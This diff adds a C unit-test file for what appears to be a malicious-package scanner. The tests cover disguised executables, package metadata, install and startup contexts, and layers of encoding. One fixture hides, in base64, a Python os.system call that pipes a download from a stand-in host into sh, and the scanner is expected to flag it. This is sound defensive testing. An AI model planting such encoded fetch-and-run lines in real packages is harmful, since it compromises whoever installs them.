@@ -1,0 +1,264 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/* inspect: its parts by table - disguises, metadata, contexts, layers. */
+#include <stdarg.h>
+#include <stddef.h>
+#include <setjmp.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+#include "base/mem.h"
+#include "base/str.h"
+#include "inspect/context.h"
+#include "inspect/disguise.h"
+#include "inspect/layers.h"
+#include "inspect/metadata.h"
+#include "inspect_tools.h"
+
+static void
+make_image(uint8_t image[1024])
+{
+	memset(image, 0, 1024);
+	memcpy(image, "MZ\x90", 3);
+	image[0x3c] = 0x80;
+	memcpy(image + 0x80, "PE\0\0\x64\x86", 6);
+}
+
+static void
+finds_executables(void **state)
+{
+	uint8_t image[1024], hidden[1024];
+	struct disguise d;
+
+	(void)state;
+	make_image(image);
+	assert_int_equal(executable_of(image, sizeof(image)), EXECUTABLE_PE);
+	assert_false(disguise_find(image, sizeof(image), &d));
+	for (unsigned int key = 1; key < 256; key++) {
+		char want[16];
+
+		for (size_t i = 0; i < sizeof(image); i++)
+			hidden[i] = (uint8_t)(image[i] ^ key);
+		assert_true(disguise_find(hidden, sizeof(hidden), &d));
+		(void)snprintf(want, sizeof(want), "xor:0x%02x", key);
+		assert_string_equal(d.cipher, want);
+		assert_int_equal(d.kind, EXECUTABLE_PE);
+	}
+	for (size_t len = 2; len <= 16; len++) {
+		for (size_t i = 0; i < sizeof(image); i++)
+			hidden[i] = image[i] ^
+			    (uint8_t)"Kp3#xQ9z!mB7wL0y"[i % len];
+		assert_true(disguise_find(hidden, sizeof(hidden), &d));
+		assert_true(str_starts(d.cipher, "xor:0x4b"));
+	}
+	for (size_t i = 0; i < sizeof(image); i++)
+		hidden[i] = (uint8_t)(image[i] + 0x33);
+	assert_true(disguise_find(hidden, sizeof(hidden), &d));
+	assert_string_equal(d.cipher, "add:0x33");
+	for (size_t i = 0; i < sizeof(image); i++)
+		hidden[i] = image[sizeof(image) - 1 - i];
+	assert_true(disguise_find(hidden, sizeof(hidden), &d));
+	assert_string_equal(d.cipher, "reversed");
+}
+
+/* Short, truncated and random bytes: no read past the end, no match. */
+static void
+finds_nothing_in_noise(void **state)
+{
+	uint32_t seed = 3;
+
+	(void)state;
+	for (size_t len = 0; len < 300; len++) {
+		uint8_t *noise = mem_alloc(len + 1);
+		struct disguise d;
+
+		for (size_t i = 0; i < len; i++) {
+			seed = seed * 1664525 + 1013904223;
+			noise[i] = (uint8_t)(seed >> 24);
+		}
+		assert_false(disguise_find(noise, len, &d));
+		free(noise);
+	}
+}
+
+static void
+reads_metadata(void **state)
+{
+	static const char text[] = "Metadata-Version: 2.1\r\nName: a\r\n"
+	    "Version: 1\nSummary: one\n  two\nhome-page: https://a.invalid\n"
+	    "Requires-Dist: b>1\nRequires-Dist: c\nClassifier: X\n"
+	    "no colon here\nName: again\n\nThe description.\n";
+	struct metadata m = { 0 };
+
+	(void)state;
+	metadata_parse((const uint8_t *)text, sizeof(text) - 1, &m);
+	assert_string_equal(m.name, "a");
+	assert_string_equal(m.summary, "one two");
+	assert_string_equal(m.home_page, "https://a.invalid");
+	assert_int_equal(m.nrequires, 2);
+	assert_string_equal(m.requires[1].text, "c");
+	assert_int_equal(m.nclassifiers, 1);
+	assert_int_equal(m.description_bytes, 17);
+	metadata_release(&m);
+	for (size_t len = 0; len < sizeof(text); len++) {
+		metadata_parse((const uint8_t *)text, len, &m);
+		metadata_release(&m);
+	}
+}
+
+static const struct {
+	enum packagetype type;
+	const char *path, *data;
+	enum context context;
+} places[] = {
+	{ PACKAGE_SDIST, "setup.py", "x", CONTEXT_INSTALL },
+	{ PACKAGE_WHEEL, "setup.py", "x", CONTEXT_IMPORT },
+	{ PACKAGE_SDIST, "a/setup.py", "x", CONTEXT_IMPORT },
+	{ PACKAGE_SDIST, "_build/hook.py", "x", CONTEXT_INSTALL },
+	{ PACKAGE_WHEEL, "x.pth", "import a", CONTEXT_STARTUP },
+	{ PACKAGE_WHEEL, "sitecustomize.py", "x", CONTEXT_STARTUP },
+	{ PACKAGE_WHEEL, "a/__init__.py", "x", CONTEXT_IMPORT },
+	{ PACKAGE_SDIST, "tests/a.py", "x", CONTEXT_TEST },
+	{ PACKAGE_SDIST, "a/test_x.py", "x", CONTEXT_TEST },
+	{ PACKAGE_WHEEL, "a/test.py", "\x01\x02\x80\x81", CONTEXT_DATA },
+	{ PACKAGE_SDIST, "docs/conf.py", "x", CONTEXT_CALL },
+	{ PACKAGE_SDIST, "PKG-INFO", "x", CONTEXT_METADATA },
+	{ PACKAGE_WHEEL, "a.dist-info/METADATA", "x", CONTEXT_METADATA },
+	{ PACKAGE_WHEEL, "a/logo.png", "x", CONTEXT_DATA },
+	{ PACKAGE_WHEEL, "a/run.sh", "x", CONTEXT_CALL },
+};
+
+static void
+knows_contexts(void **state)
+{
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(places); i++) {
+		struct entry e = { .path = places[i].path,
+		    .inner = places[i].path,
+		    .data = (const uint8_t *)places[i].data,
+		    .size = strlen(places[i].data) };
+
+		if (context_of(places[i].type, &e) != places[i].context)
+			print_message("%s\n", places[i].path);
+		assert_int_equal(context_of(places[i].type, &e),
+		    places[i].context);
+	}
+}
+
+static const struct { const char *in, *name, *out; } peels[] = {
+	{ "aW1wb3J0IG9zCnByaW50KDEpCg==", "base64", "import os\nprint(1)\n" },
+	{ "696d706f7274206f730a7072696e742831290a", "hex",
+	    "import os\nprint(1)\n" },
+	{ "NFWXA33SOQQG64YKOBZGS3TUFAYSSCQ=", "base32",
+	    "import os\nprint(1)\n" },
+	{ "==gCpEDK05WayBnCz9GI0J3bw1Wa", "reversed > base64",
+	    "import os\nprint(1)\n" },
+	{ "not encoded at all", NULL, NULL },
+};
+
+static void
+peels_layers(void **state)
+{
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(peels); i++) {
+		const char *name = NULL;
+		size_t len = 0;
+		uint8_t *out = layers_peel((const uint8_t *)peels[i].in,
+		    strlen(peels[i].in), 1 << 20, &len, &name);
+
+		assert_int_equal(out != NULL, peels[i].out != NULL);
+		if (out == NULL)
+			continue;
+		assert_string_equal(name, peels[i].name);
+		assert_int_equal(len, strlen(peels[i].out));
+		assert_memory_equal(out, peels[i].out, len);
+		free(out);
+	}
+}
+
+/* A layer's chain, and the addresses of a file with a finding. */
+static void
+names_layers_and_addresses(void **state)
+{
+	const struct inspect_tools *t = *state;
+	static const char text[] = "u = 'https://c2.example.invalid/a'\n"
+	    "exec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRw"
+	    "Oi8veC5leGFtcGxlLmludmFsaWQvYSB8IHNoJykK'))\n";
+	struct inspected_file file = { "a", "1", "a-1-py3-none-any.whl",
+	    PACKAGE_WHEEL };
+	struct entry e = { .path = "a/__init__.py", .inner = "a/__init__.py",
+	    .data = (const uint8_t *)text, .size = sizeof(text) - 1 };
+	struct features f = { 0 };
+	struct inspection *in = inspection_new(t->inspector, &file, NULL, &f);
+	bool layered = false;
+
+	inspection_entry(in, &e);
+	inspection_end(in);
+	inspection_free(in);
+	for (size_t i = 0; i < f.nfindings; i++)
+		if (str_equal(f.findings[i].rule, "run-hidden-command")) {
+			layered = true;
+			assert_string_equal(f.findings[i].layers, "base64");
+			assert_int_equal(f.findings[i].line, 2);
+		}
+	assert_true(layered);
+	assert_true(f.nindicators >= 2);
+	features_release(&f);
+}
+
+/* Whatever the bytes and the name, looking comes to an end. */
+static void
+survives_noise(void **state)
+{
+	const struct inspect_tools *t = *state;
+	static const char *const names[] = { "a.py", "a.pth", "PKG-INFO",
+	    "a.png", "setup.py", "a.sh" };
+	static const char *const bits[] = { "exec(", "'", "\"\"\"", "def f(",
+	    "b64decode(", ")", ":", "\n", "    ", "import os", "=", "[::-1]",
+	    "os.system", "lambda", "x", "{", "}", "f'{", "@", ";", "\\",
+	    "class A(install):", "\xff", "\xf3\xa0\x84\x80", "if a: ", "0x" };
+	uint32_t seed = 11;
+
+	for (int round = 0; round < 300; round++) {
+		struct inspected_file file = { "a", "1", "a-1.tar.gz",
+		    PACKAGE_SDIST };
+		struct features f = { 0 };
+		struct inspection *in = inspection_new(t->inspector, &file,
+		    NULL, &f);
+		struct buf b = BUF_EMPTY;
+		struct entry e = { 0 };
+
+		for (int i = 0; i < 200; i++) {
+			seed = seed * 1664525 + 1013904223;
+			buf_adds(&b, bits[(seed >> 16) % ARRAY_LEN(bits)]);
+		}
+		e.path = e.inner = names[round % (int)ARRAY_LEN(names)];
+		e.data = (const uint8_t *)b.data;
+		e.size = b.len;
+		inspection_entry(in, &e);
+		inspection_end(in);
+		inspection_free(in);
+		features_release(&f);
+		buf_release(&b);
+	}
+}
+
+int
+main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(finds_executables),
+		cmocka_unit_test(finds_nothing_in_noise),
+		cmocka_unit_test(reads_metadata),
+		cmocka_unit_test(knows_contexts),
+		cmocka_unit_test(peels_layers),
+		cmocka_unit_test(names_layers_and_addresses),
+		cmocka_unit_test(survives_noise),
+	};
+
+	return cmocka_run_group_tests(tests, inspect_tools_setup,
+	    inspect_tools_teardown);
+}
